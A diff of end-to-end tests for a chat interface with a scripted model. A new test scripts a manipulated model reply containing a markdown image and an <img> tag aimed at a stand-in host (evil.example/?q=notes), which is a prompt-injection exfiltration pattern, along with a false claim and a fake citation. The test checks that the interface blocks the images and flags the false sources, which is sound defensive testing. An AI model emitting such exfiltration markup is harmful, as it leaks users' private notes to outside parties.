@@ -108,14 +108,14 @@ async def test_thinking_is_shown_apart_from_the_answer(
     model_server: Studyin, provider: ScriptedProvider, chat: ChatPage, page: Page
 ):
     pause = Pause()
-    provider.script(Stream(Think("First I look at the cell."), pause, "It is the nucleus."))
+    provider.script(Stream(Think("First I look at the cell."), pause, "Is it the nucleus?"))
     await chat.open(model_server.url)
     await chat.ask("Where is the DNA?")
     await pause.reached.wait()
     await expect(chat.replies.locator(".waiting")).to_contain_text("Thinking")
     pause.go.set()
     await chat.ended()
-    await expect(chat.answer()).to_have_text("It is the nucleus.")
+    await expect(chat.answer()).to_have_text("Is it the nucleus?")
     await chat.replies.locator(".thinking summary").click()
     await expect(chat.replies.locator(".thinking-text")).to_have_text("First I look at the cell.")
     await page.reload()
@@ -126,7 +126,7 @@ async def test_an_answer_is_copied_as_it_was_written_or_as_it_reads_and_code_alo
     model_server: Studyin, provider: ScriptedProvider, chat: ChatPage, context: BrowserContext
 ):
     await context.grant_permissions(["clipboard-read", "clipboard-write"])
-    answer = "A **bold** word.\n\n- one\n- two\n\n```python\nprint(1)\n```"
+    answer = "A **bold** word.\n\n- one\n- two\n\n```python\nprint(1)\n```\n\nWhat else?"
     provider.script(Stream(answer + "\n"))
     await chat.open(model_server.url)
     await chat.ask("Say it.")
@@ -141,12 +141,38 @@ async def test_an_answer_is_copied_as_it_was_written_or_as_it_reads_and_code_alo
         assert await clipboard() == answer
         await chat.toasts.get_by_role("button", name="As plain text").click()
         await expect(chat.toasts.get_by_role("button", name="As plain text")).to_have_count(0)
-        assert (await clipboard()).split() == ["A", "bold", "word.", "one", "two", "print(1)"]
+        assert (await clipboard()).split() == ["A", "bold", "word.", "one", "two", "print(1)", "What", "else?"]
         await chat.answer().locator(".code").hover()
         await chat.answer().get_by_role("button", name="Copy the code").click()
         await expect(chat.toasts.get_by_text("Copied")).to_have_count(2)
         assert await clipboard() == "print(1)"
         await chat.page.reload()
+        await chat.is_ready()
+
+
+async def test_a_model_that_was_talked_round_loads_nothing_from_elsewhere_and_a_doubtful_source_is_marked(
+    model_server: Studyin, provider: ScriptedProvider, chat: ChatPage, page: Page
+):
+    evil = "https://evil.example"
+    provider.script(
+        Stream(
+            "A mitochondrion makes ATP [[1]]. It freezes whole oceans at night [[1]], says nobody [[9]].\n\n",
+            f"![a picture]({evil}/?q=notes) <img src='{evil}/'> [tap here]({evil}/tap)\n\nWhat is a mitochondrion?",
+        )
+    )
+    await chat.open(model_server.url)
+    await chat.add_notes("cells.md", "# Cells\n\nA mitochondrion makes ATP.\n")
+    await chat.ask("What is a mitochondrion?")
+    await chat.ended()
+    for _ in ("as it came", "as it was stored"):
+        answer = chat.answer()
+        await expect(answer.locator("img")).to_have_count(0)
+        await expect(answer.get_by_role("link", name="a picture")).to_have_attribute("rel", re.compile("noreferrer"))
+        await expect(answer.get_by_role("link", name=re.compile("^Source 1$"))).to_have_count(1)
+        await expect(answer.get_by_role("link", name="Source 1, which does not say this")).to_have_count(1)
+        await expect(answer).not_to_contain_text("[[9]]")
+        await expect(chat.replies.locator(".notice")).to_contain_text("not in its passage")
+        await page.reload()
         await chat.is_ready()
 
 
